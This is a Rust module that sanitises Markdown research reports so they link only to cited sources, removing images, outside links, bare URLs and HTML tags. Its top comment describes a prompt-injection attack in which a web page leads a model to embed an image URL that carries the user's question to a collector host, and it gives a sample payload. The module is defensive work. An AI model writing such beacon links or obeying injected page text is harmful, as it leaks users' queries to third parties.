//! Reports link only to their sources. A report is read in viewers that
//! fetch images and follow links, so a link is a channel out of the run: a
//! page that talks a model into writing `![badge](https://collector/?q=<the
//! question>)` would have every viewer send the question away. The gate
//! below keeps links whose destination is one of the cited sources and
//! turns everything else into plain text: every Markdown image (whatever
//! its host), links and bare URLs to anywhere else, reference definitions,
//! and HTML tags. Code spans and fenced blocks are left alone: no renderer
//! links or fetches what is inside them.
//!
//! What the gate leaves is inert by construction: the scheme-bearing or
//! `www.` text of a removed destination never survives, only its host with
//! its dots bracketed (`collector[.]example`), which no renderer links.

use std::sync::LazyLock;

use regex::{Captures, Regex};

use crate::document::{host_of, normalize_url};

/// One thing the gate took out (or the lint flags), with its line (1-based).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Outside {
    pub line: usize,
    pub what: String,
}

/// A report body after the gate.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Gated {
    pub markdown: String,
    pub removed: Vec<Outside>,
}

/// `![alt](dest "title")`; the alt text holds no brackets.
static IMAGE: LazyLock<Regex> = LazyLock::new(|| crate::re(&format!(r"!\[([^\[\]]*)\]\({DEST}\)")));
/// `[text](dest "title")`.
static LINK: LazyLock<Regex> = LazyLock::new(|| crate::re(&format!(r"\[([^\[\]]*)\]\({DEST}\)")));
/// A destination (bare or in angle brackets) and an optional title.
const DEST: &str =
    r#"\s*(<[^<>]*>|[^\s()]*(?:\([^\s()]*\)[^\s()]*)*)(?:\s+(?:"[^"]*"|'[^']*'|\([^()]*\)))?\s*"#;
/// `[ref]: dest` at the start of a line (the destination may be missing:
/// it can sit on the next line).
static DEFINITION: LazyLock<Regex> =
    LazyLock::new(|| crate::re(r"^(\s{0,3}\[)([^\[\]]+)(\]:\s*)(\S*)"));
/// `<https://...>` and `<www...>` autolinks.
static AUTOLINK: LazyLock<Regex> =
    LazyLock::new(|| crate::re(r"(?i)<((?:[a-z][a-z0-9+.-]{1,31}:|www\.)[^\s<>]*)>"));
/// An HTML tag, comment, declaration or processing instruction.
static TAG: LazyLock<Regex> = LazyLock::new(|| {
    crate::re(
        r#"(?s)<!--.*?-->|</?[A-Za-z][A-Za-z0-9-]*(?:\s+(?:[^<>"']|"[^"]*"|'[^']*')*)?/?>|<[!?][^<>]*>"#,
    )
});
/// What is left of a tag that did not close on its line.
static TAG_START: LazyLock<Regex> = LazyLock::new(|| crate::re(r"<([A-Za-z/!?])"));
/// A URL renderers link without any markup (GitHub's extended autolinks;
/// no word boundary is asked for, as some linkifiers find a scheme inside
/// a word).
static BARE: LazyLock<Regex> =
    LazyLock::new(|| crate::re(r"(?i)(?:(?:https?|ftps?|wss?|file)://|www\.)[^\s<>]*"));

/// The gate over a report body: `allowed` are the cited sources' URLs.
pub fn gate(markdown: &str, allowed: &[&str]) -> Gated {
    let allowed: Vec<String> = allowed.iter().map(|u| normalize_url(u)).collect();
    let mut out = Vec::new();
    let mut removed = Vec::new();
    let mut fence: Option<(char, usize)> = None;
    for (i, line) in markdown.split('\n').enumerate() {
        if let Some(open) = fence_marker(line) {
            match fence {
                None => fence = Some(open),
                Some((c, n)) if open.0 == c && open.1 >= n && is_closing(line) => fence = None,
                Some(_) => {}
            }
            out.push(line.to_string());
            continue;
        }
        if fence.is_some() {
            out.push(line.to_string());
            continue;
        }
        let mut what = Vec::new();
        out.push(gate_line(line, &allowed, &mut what));
        removed.extend(what.into_iter().map(|w| Outside {
            line: i + 1,
            what: w,
        }));
    }
    Gated {
        markdown: out.join("\n"),
        removed,
    }
}

/// What the gate would take out of a report body, for `dra lint-report`.
pub fn outside_links(markdown: &str, allowed: &[&str]) -> Vec<Outside> {
    gate(markdown, allowed).removed
}

/// A URL written so no renderer links it (dra's own notes name the pages
/// it refused): an inline code span, its fence longer than any backtick
/// run inside.
pub fn inert(url: &str) -> String {
    let url = crate::document::single_line(url);
    let longest = url.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    let ticks = "`".repeat(longest + 1);
    if longest > 0 {
        format!("{ticks} {url} {ticks}")
    } else {
        format!("{ticks}{url}{ticks}")
    }
}

/// ```` ``` ```` or `~~~` (three or more) opening a line: the fence char and length.
fn fence_marker(line: &str) -> Option<(char, usize)> {
    let t = line.trim_start_matches(' ');
    if line.len() - t.len() > 3 {
        return None;
    }
    let c = t.chars().next().filter(|c| matches!(c, '`' | '~'))?;
    let n = t.chars().take_while(|&x| x == c).count();
    (n >= 3).then_some((c, n))
}

/// A closing fence carries nothing after its marker.
fn is_closing(line: &str) -> bool {
    line.trim().chars().all(|c| c == '`' || c == '~')
}

/// One line outside fenced code: its code spans kept, the rest gated.
fn gate_line(line: &str, allowed: &[String], removed: &mut Vec<String>) -> String {
    // Taking a tag out can join what it separated into new link syntax
    // (`![x]<b></b>(//host/i.png)`): the line is gated until it is stable.
    let mut line = line.to_string();
    for _ in 0..ROUNDS {
        if let Some(c) = DEFINITION.captures(&line) {
            let written = c.get(4).map_or("", |m| m.as_str());
            let dest = written.trim_matches(['<', '>']);
            if is_allowed(dest, allowed) {
                // In angle brackets only when they are closed: a lone `<`
                // would open a tag.
                let dest = if written.starts_with('<') && written.ends_with('>') {
                    written
                } else {
                    dest
                };
                // The label and what follows the destination (a title, or
                // text that makes the line no definition at all) are gated
                // like any text.
                let end = c.get(0).map_or(line.len(), |m| m.end());
                let label = gate_prose(&c[2], allowed, removed);
                let rest = gate_line(&line[end..], allowed, removed);
                return format!("{}{label}{}{dest}{rest}", &c[1], &c[3]);
            }
            removed.push(format!("link definition to {}", describe(dest)));
            return String::new();
        }
        // The end of a label begun on an earlier line (`[a\nb]: dest`).
        while let Some(at) = line.find("]:")
            && !line[..at].contains('[')
        {
            removed.push("link definition across lines".into());
            line.replace_range(at..at + 2, "] :");
        }
        let mut out = String::with_capacity(line.len());
        for (code, piece) in code_spans(&line) {
            if code {
                out.push_str(piece);
            } else {
                out.push_str(&gate_prose(piece, allowed, removed));
            }
        }
        if out == line {
            return line;
        }
        line = out;
    }
    // Markup built to keep rebuilding itself: none of it is kept.
    removed.push("unreadable markup".into());
    let flat: String = line
        .chars()
        .map(|c| {
            if matches!(c, '[' | ']' | '(' | ')' | '<' | '>' | '!' | '`') {
                ' '
            } else {
                c
            }
        })
        .collect();
    BARE.replace_all(&flat, |c: &Captures| bare(&c[0], allowed, removed))
        .into_owned()
}

/// How many times a line is gated before its markup counts as unreadable.
const ROUNDS: usize = 8;

/// Splits a line into code spans (a run of n backticks up to the next run
/// of exactly n) and the text between them.
fn code_spans(line: &str) -> Vec<(bool, &str)> {
    let bytes = line.as_bytes();
    let mut out = Vec::new();
    let (mut start, mut i) = (0, 0);
    while i < bytes.len() {
        if bytes[i] != b'`' {
            i += 1;
            continue;
        }
        let n = bytes[i..].iter().take_while(|&&b| b == b'`').count();
        match closing_run(bytes, i + n, n) {
            Some(end) => {
                if start < i {
                    out.push((false, &line[start..i]));
                }
                out.push((true, &line[i..end]));
                start = end;
                i = end;
            }
            None => i += n,
        }
    }
    if start < line.len() {
        out.push((false, &line[start..]));
    }
    out
}

/// The end of the first run of exactly `n` backticks at or after `from`.
fn closing_run(bytes: &[u8], from: usize, n: usize) -> Option<usize> {
    let mut j = from;
    while j < bytes.len() {
        if bytes[j] == b'`' {
            let m = bytes[j..].iter().take_while(|&&b| b == b'`').count();
            if m == n {
                return Some(j + m);
            }
            j += m;
        } else {
            j += 1;
        }
    }
    None
}

/// A link to a heading of the report itself: `#` and a slug (letters,
/// digits, `-`, `_`, `.`), nothing a renderer could read as markup.
fn is_anchor(dest: &str) -> bool {
    dest.strip_prefix('#').is_some_and(|slug| {
        slug.chars()
            .all(|c| c.is_alphanumeric() || matches!(c, '-' | '_' | '.'))
    })
}

/// Prose (no code): images, outside links, autolinks, HTML and bare URLs.
/// What is kept (links to sources) is set aside behind placeholders, so
/// the later passes cannot touch it.
fn gate_prose(text: &str, allowed: &[String], removed: &mut Vec<String>) -> String {
    let mut kept = Kept::default();
    let mut text: String = text.chars().filter(|c| !Kept::is_marker(*c)).collect();
    // Images nest inside link text: repeat until none is left.
    while IMAGE.is_match(&text) {
        text = IMAGE
            .replace_all(&text, |c: &Captures| {
                removed.push(format!("image from {}", describe(&c[2])));
                without_image(c[1].trim(), &c[2])
            })
            .into_owned();
    }
    text = LINK
        .replace_all(&text, |c: &Captures| {
            let dest = c[2].trim_matches(['<', '>']);
            let label = gate_prose(&c[1], allowed, removed);
            if is_allowed(dest, allowed) || is_anchor(dest) {
                return kept.set_aside(format!("[{label}]{}", &c[0][c[1].len() + 2..]));
            }
            removed.push(format!("link to {}", describe(dest)));
            match plain_host(dest) {
                Some(h) => format!("{label} (link to {h} removed)"),
                None => format!("{label} (link removed)"),
            }
        })
        .into_owned();
    // Image syntax left (a reference image, `![x][ref]`) is broken apart
    // too: no image is rendered from anywhere.
    if text.contains("![") {
        removed.push("image syntax".into());
        text = text.replace("![", "! [");
    }
    // Link syntax the patterns above could not read is broken apart, so no
    // renderer reads a destination into it either.
    if text.contains("](") {
        removed.push("unreadable link syntax".into());
        text = text.replace("](", "] (");
    }
    text = AUTOLINK
        .replace_all(&text, |c: &Captures| {
            if is_allowed(&c[1], allowed) {
                kept.set_aside(c[0].to_string())
            } else {
                bare(&c[1], allowed, removed)
            }
        })
        .into_owned();
    text = TAG
        .replace_all(&text, |c: &Captures| {
            removed.push(format!("HTML {}", tag_name(&c[0])));
            String::new()
        })
        .into_owned();
    if TAG_START.is_match(&text) {
        removed.push("unclosed HTML tag".into());
        text = TAG_START.replace_all(&text, "&lt;$1").into_owned();
    }
    let text = BARE.replace_all(&text, |c: &Captures| bare(&c[0], allowed, removed));
    kept.restore(&text)
}

/// What an image becomes: its alt text and where it would have come from.
fn without_image(alt: &str, dest: &str) -> String {
    let what = match plain_host(dest) {
        Some(h) => format!("(image from {h} removed)"),
        None => "(image removed)".to_string(),
    };
    if alt.is_empty() {
        what
    } else {
        format!("{alt} {what}")
    }
}

/// Links to sources set aside while the rest of a line is gated.
#[derive(Default)]
struct Kept(Vec<String>);

impl Kept {
    const OPEN: char = '\u{E000}';
    const CLOSE: char = '\u{E001}';

    fn is_marker(c: char) -> bool {
        c == Self::OPEN || c == Self::CLOSE
    }

    fn set_aside(&mut self, s: String) -> String {
        self.0.push(s);
        format!("{}{}{}", Self::OPEN, self.0.len() - 1, Self::CLOSE)
    }

    fn restore(&self, text: &str) -> String {
        static MARK: LazyLock<Regex> = LazyLock::new(|| crate::re("\u{E000}(\\d+)\u{E001}"));
        MARK.replace_all(text, |c: &Captures| {
            c[1].parse::<usize>()
                .ok()
                .and_then(|i| self.0.get(i).cloned())
                .unwrap_or_default()
        })
        .into_owned()
    }
}

/// A bare URL: kept when it is a source, else its host, defanged.
fn bare(raw: &str, allowed: &[String], removed: &mut Vec<String>) -> String {
    let url = raw.trim_end_matches(['.', ',', ';', ':', '!', '?', ')', '\'', '"', '*', '_']);
    let tail = &raw[url.len()..];
    if is_allowed(url, allowed) {
        return raw.to_string();
    }
    removed.push(format!("link to {}", describe(url)));
    match plain_host(url) {
        Some(h) => format!("{h} (link removed){tail}"),
        None => format!("(link removed){tail}"),
    }
}

fn is_allowed(dest: &str, allowed: &[String]) -> bool {
    let dest = normalize_url(dest);
    !dest.is_empty() && allowed.contains(&dest)
}

/// The host of a destination with its dots bracketed (`evil[.]example`),
/// which no renderer turns into a link; `None` for a destination with no
/// host (relative, `javascript:`, `data:`).
fn plain_host(dest: &str) -> Option<String> {
    let dest = dest.trim_matches(['<', '>']);
    let lower = dest.to_ascii_lowercase();
    let has_host = lower.contains("://") || lower.starts_with("//") || lower.starts_with("www.");
    let host = host_of(dest.trim_start_matches('/'));
    let host: String = host
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-'))
        .collect();
    (has_host && !host.is_empty()).then(|| host.replace('.', "[.]"))
}

/// A destination for a note: its host, or its scheme when it has none.
fn describe(dest: &str) -> String {
    match plain_host(dest) {
        Some(h) => h,
        None => {
            let d = dest.trim_matches(['<', '>']);
            let scheme = d
                .split(':')
                .next()
                .filter(|s| d.contains(':') && s.len() < 12);
            match scheme {
                Some(s) => format!("a {} URL", crate::document::single_line(s)),
                None if d.is_empty() => "nowhere".into(),
                None => "a relative address".into(),
            }
        }
    }
}

fn tag_name(tag: &str) -> String {
    if tag.starts_with("<!--") {
        return "comment".into();
    }
    let name: String = tag
        .trim_start_matches(['<', '/', '!', '?'])
        .chars()
        .take_while(char::is_ascii_alphanumeric)
        .take(16)
        .collect();
    format!("tag <{}>", name.to_ascii_lowercase())
}

#[cfg(test)]
#[path = "links_tests.rs"]
mod tests;
